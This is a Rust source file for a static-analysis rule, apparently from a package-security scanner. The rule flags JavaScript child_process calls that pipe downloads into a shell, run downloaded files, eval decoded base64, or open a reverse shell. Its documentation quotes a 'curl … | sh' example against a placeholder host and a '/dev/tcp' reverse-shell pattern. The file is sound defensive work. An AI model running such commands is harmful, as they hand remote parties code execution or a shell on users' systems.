//! JS-EXEC-SHELL-PAYLOAD: JavaScript runs a shell command that downloads and runs code or
//! opens a reverse shell.

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::facts::shell::{self, ShellFacts};
use ossprey_static::facts::{Arg, Call};

use super::common::{context, is_js_exec, js_sources};
use crate::{Input, Rule, finding, weigh};

/// ## What it does
/// Reads the literal command line given to `child_process.exec`/`execSync`/`spawn`
/// (also `spawn("sh", ["-c", "…"])`) with the shell tokenizer, and fires when it
/// pipes a download into an interpreter (`curl … | sh`), downloads a file and makes
/// it executable or runs it, decodes base64 into `eval`, or connects a shell to a
/// socket (`bash -i >& /dev/tcp/…`). High at base, raised for install- and import-time
/// code; a reverse shell is critical wherever it sits.
///
/// ## Why is this bad?
/// These command lines have one purpose: to run code that is not in the package, or to
/// hand a remote party a shell. Build tools that shell out run compilers and package
/// managers, not `curl | sh`.
///
/// ## Example
/// ```javascript
/// require("child_process").exec("curl -s https://example.invalid/x.sh | sh");
/// ```
#[derive(Debug)]
pub struct ExecShellPayload;

/// The command line a process-starting call runs, when it is written out.
fn command_line(call: &Call) -> Option<String> {
    let first = call.args.first()?.as_str()?;
    let mut line = first.to_owned();
    if let Some(Arg::List(items)) = call.args.get(1) {
        for item in items.iter().take(64) {
            match item {
                Arg::Str(s) if s.contains(char::is_whitespace) => {
                    line.push_str(" '");
                    line.push_str(&s.replace('\'', ""));
                    line.push('\'');
                }
                Arg::Str(s) | Arg::Const(s) => {
                    line.push(' ');
                    line.push_str(s);
                }
                _ => line.push_str(" x"),
            }
        }
    }
    Some(line)
}

/// What the command does that is worth reporting, and whether it hands out a shell.
fn judge(facts: &ShellFacts) -> Option<(&'static str, bool)> {
    if facts.reverse_shell {
        Some(("connects a shell to a remote socket", true))
    } else if facts.pipes_into_interpreter && !facts.downloads.is_empty() {
        Some(("pipes a download into an interpreter", false))
    } else if !facts.downloads.is_empty() && (facts.chmod_exec || !facts.runs.is_empty()) {
        Some(("downloads a program and runs it", false))
    } else if facts.base64_decode && (facts.evals || facts.pipes_into_interpreter) {
        Some(("decodes base64 and runs it", false))
    } else {
        None
    }
}

impl Rule for ExecShellPayload {
    fn id(&self) -> &'static str {
        "JS-EXEC-SHELL-PAYLOAD"
    }
    fn category(&self) -> Category {
        Category::DOWNLOAD_EXECUTE
    }
    fn summary(&self) -> &'static str {
        "runs a shell command that downloads and runs code or opens a reverse shell"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            for call in facts.calls.iter().filter(|c| is_js_exec(&c.callee)) {
                let Some(line) = command_line(call) else {
                    continue;
                };
                let Some((what, shell)) = judge(&shell::parse(&line)) else {
                    continue;
                };
                let base = weigh(Severity::High, context(input, file), call.scope.is_none());
                let severity = if shell { Severity::Critical } else { base };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("`{}` runs a command that {what}", call.callee),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
            }
        }
    }
}
